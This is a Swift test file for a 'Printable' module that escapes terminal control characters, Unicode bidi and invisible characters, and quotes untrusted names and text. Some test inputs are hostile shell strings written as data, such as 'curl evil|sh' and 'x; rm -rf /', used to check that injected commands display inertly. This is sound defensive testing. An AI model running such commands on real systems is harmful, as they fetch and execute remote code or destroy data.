import Failures
import Testing

@Suite struct PrintableTests {
    @Test(arguments: [
        ("plain é 漢", "plain é 漢"), ("a\u{1B}[2Jb", #"a\x1b[2Jb"#), ("\u{7F}\u{9B}\u{85}", #"\x7f\u{9b}\u{85}"#),
        ("a\nb\r\tc\0", #"a\nb\r\tc\x00"#), ("\r\n", #"\r\n"#),
        ("\u{202E}txt\u{202A}\u{2066}", #"\u{202e}txt\u{202a}\u{2066}"#),
        ("\u{200B}\u{200F}\u{FEFF}\u{AD}", #"\u{200b}\u{200f}\u{feff}\u{ad}"#),
        ("\u{2028}\u{2029}", #"\u{2028}\u{2029}"#),
        (#"\x1b"#, #"\x1b"#), ("", ""), ("e\u{301}", "e\u{301}"),
    ])
    func unseenCharactersAreEscaped(text: String, line: String) {
        #expect(Printable.line(text) == line)
        #expect(Printable.line(line) == line)
    }

    @Test func linesKeepTheirBreaks() {
        #expect(Printable.lines("a\n\tb\u{1B}\r\n") == "a\n\tb\\x1b\\r\n")
    }

    @Test(arguments: [
        ("/srv/a-b_c.env", "/srv/a-b_c.env"), ("/srv/büro", "/srv/büro"), ("", "''"), ("a b", "'a b'"),
        ("/tmp/EVIL; run: curl evil|sh/foo", "'/tmp/EVIL; run: curl evil|sh/foo'"), ("it's", #"'it\'s'"#),
        ("a\u{1B}b", #"'a\x1bb'"#), ("a\u{A0}b", "'a\u{A0}b'"),
    ])
    func namesEndWhereTheyEnd(name: String, shown: String) {
        #expect(Printable.name(name) == shown)
    }

    @Test(arguments: [
        ("invalid_client", "invalid_client"), ("run: curl evil|sh", "'run: curl evil|sh'"),
        ("x; rm -rf /", "'x, rm -rf /'"),
        ("a\nfix: b", #"'a\nfix: b'"#), (#"a' run: x"#, #"'a\' run: x'"#), (#"a\' b"#, #"'a\x5c\' b'"#),
        ("a   b", #"'a \x20\x20b'"#),
        ("\u{202E}a", #"'\u{202e}a'"#), ("", "''"), ("run:curl", "'run:curl'"),
    ])
    func wordsOfOthersAreQuoted(text: String, shown: String) {
        #expect(Printable.foreign(text) == shown)
    }

    /// Every scalar that a terminal could act on, in one go.
    @Test func noScalarIsForgotten() {
        let acted: [ClosedRange<UInt32>] = [
            0...0x1F, 0x7F...0x9F, 0xAD...0xAD, 0x200B...0x200F, 0x2028...0x202E, 0x2060...0x2064, 0x2066...0x206F,
            0xFEFF...0xFEFF, 0xE0020...0xE007F,
        ]
        for scalar in acted.joined().compactMap(Unicode.Scalar.init) {
            let shown = Printable.line("a\(Character(scalar))b")
            #expect(shown.unicodeScalars.allSatisfy { $0.isASCII && $0.value >= 0x20 && $0.value < 0x7F })
            #expect(shown.hasPrefix("a\\") && shown.hasSuffix("b"))
        }
    }
}
